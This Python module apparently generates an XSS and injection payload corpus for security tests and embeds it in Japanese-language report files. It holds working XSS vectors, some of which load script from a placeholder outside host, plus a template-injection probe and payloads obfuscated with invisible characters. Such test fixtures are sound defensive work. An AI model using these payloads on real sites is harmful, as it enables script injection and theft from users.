"""Words that become a script, or fetch something, wherever they are taken for markup.

A payload is a vector (what would run) in a context (where it is put). Each has a number of its
own: what runs calls `alert(number)`, what is fetched is `{outside}/number`.
"""

from __future__ import annotations

import html
from collections.abc import Iterator, Sequence
from dataclasses import dataclass

# @ is the number, OUT the address of a server that is not Kido's.
VECTORS: tuple[str, ...] = (
    # scripts
    "<script>alert(@)</script>",
    "<ScRiPt >alert(@)</sCrIpT>",
    "<script src=OUT/@.js></script>",
    "<script type=module>import('OUT/@.js')</script>",
    "<svg><script>alert(@)</script></svg>",
    "<svg><script href=OUT/@.js /></svg>",
    "<iframe srcdoc='<script>parent.alert(@)</script>'></iframe>",
    "<iframe src='javascript:parent.alert(@)'></iframe>",
    "<embed src=OUT/@>",
    "<object data=OUT/@></object>",
    # handlers of events
    "<img src=x onerror=alert(@)>",
    "<img src=x oNeRrOr=alert`@`>",
    "<svg onload=alert(@)>",
    "<details open ontoggle=alert(@)>x</details>",
    "<input autofocus onfocus=alert(@)>",
    "<video><source onerror=alert(@)></video>",
    "<audio src=x onerror=alert(@)></audio>",
    "<body onpageshow=alert(@)>",
    "<style>@keyframes k{}</style><b style='animation:k 1ms' onanimationstart=alert(@)>x</b>",
    # links and what loads by itself
    "<a href='javascript:alert(@)'>開く</a>",
    "<a href='java&#10;script:alert(@)'>開く</a>",
    "[開く](javascript:alert(@))",
    "[開く](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#@)",
    "<javascript:alert(@)>",
    "![図](OUT/@.png)",
    "<img src=OUT/@.png>",
    "<link rel=stylesheet href=OUT/@.css>",
    "<style>@import 'OUT/@.css';</style>",
    "<b style='background:url(OUT/@.png)'>x</b>",
    "<meta http-equiv=refresh content='0;url=OUT/@'>",
    "<base href=OUT/@/>",
    # out of an attribute, an element, a comment, a template
    "\"><img src=x onerror=alert(@)>",
    "' autofocus tabindex=0 onfocus=alert(@) x='",
    "\" autofocus tabindex=0 onfocus=alert(@) x=\"",
    "</title><script>alert(@)</script>",
    "</textarea><script>alert(@)</script>",
    "</script><script>alert(@)</script>",
    "--><script>alert(@)</script><!--",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(@)</x:script>",
    "{{ cycler.__init__.__globals__ }}{{ 7*'@' }}",
    "${alert(@)}#{alert(@)}<%= alert(@) %>",
    # written otherwise
    "&lt;script&gt;alert(@)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(@)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(@)%3C/script%3E",
    "＜script＞alert(@)＜/script＞",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(@)></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(@)>'>",
    # with signs that nobody sees, or that turn the direction
    "<scr\u200bipt>alert(@)</scr\u200bipt><img src=x onerror=alert(@)>",
    "\u202e<img src=x onerror=alert(@)>\u202c",
    "\u2067<svg onload=alert(@)>\u2069",
    "\U000e0001\U000e003c<img src=x onerror=alert(@)>\U000e007f",
    "\ufeff<svg\u00a0onload=alert(@)><svg/onload=alert(@)>",
)  # fmt: skip
CONTEXTS: tuple[str, ...] = (
    "text", "heading", "table", "code", "markup", "escaped", "title", "publisher", "author",
    "file", "address", "rejected", "question", "search", "filter", "manuscript", "path",
    "written",
)  # fmt: skip
"""Where payloads are put: parts of documents, their metadata and names, what people type, and
what a language model writes."""


@dataclass(frozen=True, slots=True)
class Payload:
    """A vector in a context, with the number by which it is known."""

    number: int
    context: str
    vector: str

    @property
    def label(self) -> int:
        """A number for the same vector that stands for no payload."""
        return 400_000 + self.number // 100 % 1000

    def words(self, outside: str) -> str:
        """The payload; its requests go to `outside`."""
        return self.vector.replace("OUT", outside).replace("(@)", f"({self.number})").replace(
            "`@`", f"`{self.number}`"
        ).replace("/@", f"/{self.number}").replace("'@'", f"'{self.number}'").replace(
            "#@", f"#{self.number}"
        )  # fmt: skip

    def name(self, outside: str) -> str:
        """The payload as a file may be called."""
        return self.words(outside).replace("/", "").replace("\n", "")[:120].strip(". ")


def payloads(vectors: Sequence[str] = VECTORS) -> Iterator[Payload]:
    """Every vector in every context."""
    for i, vector in enumerate(vectors):
        for j, context in enumerate(CONTEXTS):
            yield Payload(100_000 + i * 100 + j, context, vector)


def report(of: dict[str, Payload], outside: str) -> dict[str, str]:
    """Files that have the payloads of one vector in them, by their suffixes."""
    said = {context: one.words(outside) for context, one in of.items()}
    cell = said["table"].replace("|", "\\|")
    number = of["text"].label
    return {
        ".txt": (
            f"第{number}号の措置\n\n"
            f"2025年4月4日、商務部は第{number}号により{said['text']}、中重希土類の7元素を輸出許可の対象にした。\n"
        ),
        ".md": (
            f"# 報告 {said['heading']}\n\n第{number}号の表を示す。\n\n"
            f"| 措置 | 内容 |\n| --- | --- |\n| 許可 | {cell} |\n\n"
            f"申請は次の形で書くとされている。\n\n```\n{said['code']}\n```\n"
        ),
        ".html": (
            "<!doctype html><html><head><meta charset=utf-8><title>報告</title></head><body>"
            f"<article><h1>第{number}号の資料</h1><p>商務部は輸出を許可制にすると発表した。</p>"
            f"<p>発表の全文は{html.escape(said['escaped'])}と伝えられた。これは審査に時間がかかる。</p>"
            f"<p>関係者は{said['markup']}と述べた。輸出は減少したとされる。</p></article></body></html>"
        ),
    }  # fmt: skip
